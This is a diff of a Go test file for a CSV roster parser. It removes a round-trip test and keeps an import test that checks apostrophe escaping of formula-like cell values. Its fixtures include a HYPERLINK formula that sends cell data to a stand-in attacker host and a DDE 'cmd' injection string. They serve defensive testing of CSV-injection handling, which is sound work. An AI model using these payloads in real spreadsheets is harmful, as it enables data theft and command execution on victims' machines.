@@ -25,18 +25,9 @@ func TestRosterHeaderErrors(t *testing.T) {
 	}
 }
 
-// A full name or email that a spreadsheet would run as a formula is written
-// with a leading apostrophe, and reads back as it was (#16 case 5).
-func TestSpreadsheetTextRoundTrip(t *testing.T) {
-	for _, name := range []string{`=HYPERLINK("http://evil.example/?"&A2,"x")`, "+1", "-dash", "@SUM(1)", "\tTab", "Ann O'Neil", "'quoted", "", "'"} {
-		cell := SpreadsheetText(name)
-		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
-			t.Errorf("SpreadsheetText(%q) = %q starts a formula", name, cell)
-		}
-		if back := FromSpreadsheet(cell); back != name {
-			t.Errorf("FromSpreadsheet(SpreadsheetText(%q)) = %q", name, back)
-		}
-	}
+// An exported cell with csvtext's leading apostrophe reads back as it was
+// (#16 case 5).
+func TestSpreadsheetTextImports(t *testing.T) {
 	rows, err := Parse(strings.NewReader("username,full_name,email\nmal,'=cmd|' /C calc'!A0,'+x@example.edu\n"))
 	if err != nil || len(rows) != 1 || rows[0].FullName != "=cmd|' /C calc'!A0" || rows[0].Email != "+x@example.edu" {
 		t.Fatalf("Parse of an exported row: %+v, %v", rows, err)
